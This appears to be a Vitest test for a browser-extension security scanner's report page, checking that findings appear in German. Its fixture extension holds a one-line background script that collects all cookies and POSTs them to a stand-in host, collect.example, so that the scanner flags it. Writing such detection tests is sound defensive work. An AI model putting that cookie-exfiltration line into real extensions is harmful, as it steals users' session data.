import { screen } from '@testing-library/react';
import { beforeEach, expect, test, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { SecurityReport } from '../../lib/api/schemas.ts';
import { analyze } from '../../lib/engine/analyze.ts';
import { sample } from '../../lib/engine/testing/sample.ts';
import { toReport } from '../../lib/engine/report/toReport.ts';
import { memoryTree } from '../../lib/engine/sources/memory.ts';
import type { Scan } from '../../lib/model/scan.ts';
import { readMessages } from '../../test/ui/messages.ts';
import { show } from '../../test/ui/render.tsx';
import { sampleHistory, SCANS } from '../../test/ui/samples.ts';
import { ReportPage } from './ReportPage.tsx';

vi.mock('./HistoryChart.tsx', () => ({ default: () => <p>the chart</p> }));

const german = readMessages('de');
const scan = SCANS[0] as Scan;

beforeEach(() => {
  const api = fakeBrowser as unknown as { i18n: Record<string, unknown> };
  api.i18n['getMessage'] = (key: string, subs: string[] = []) =>
    (german.get(key) ?? '').replace(/\$(\d)/g, (_, n) => subs[Number(n) - 1] ?? '');
});

test('a report is read in German where the pages are German', async () => {
  const { files } = sample({
    background:
      'chrome.cookies.getAll({}, (all) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(all) }); });',
    manifest: { permissions: ['cookies'], host_permissions: ['<all_urls>'] },
  });
  const report = SecurityReport.parse(
    toReport(await analyze(memoryTree(files), { kind: 'extension' }), {
      repo_id: 1,
      url: 'https://a.dev',
      title: 'a',
      source_type: 'extension_upload',
      reportDate: '2026-01-01T00:00:00.000Z',
    }),
  );
  await show(<ReportPage scanKey={scan.key} />, {
    scans: [scan],
    answers: {
      'report.get': () => ({ scan, report }),
      'history.get': ({ limit, offset }) => sampleHistory(1, limit, offset),
      'retention.get': () => ({ deleteResults: false }),
      'view.open': () => ({ open: true as const }),
    },
  });
  const [heading] = await screen.findAllByText('Sendet Browserdaten an einen Server');
  expect(heading?.closest('[lang="en"]')).toBeNull();
  expect(document.body.textContent).toContain('Nur senden, was der Wunsch des Nutzers braucht');
  expect(document.body.textContent).toContain('Der Code sendet Daten an collect.example.');
  expect(document.body.textContent).toContain('Darf auf jeder Website lesen und ändern, was Sie sehen und tippen.');
  expect(document.body.textContent).not.toContain('Sends browsing data');
  // What still is English says so to those who have it read out.
  for (const english of document.querySelectorAll('[lang="en"]')) expect(english.textContent).not.toMatch(/[äöüß]/);
});
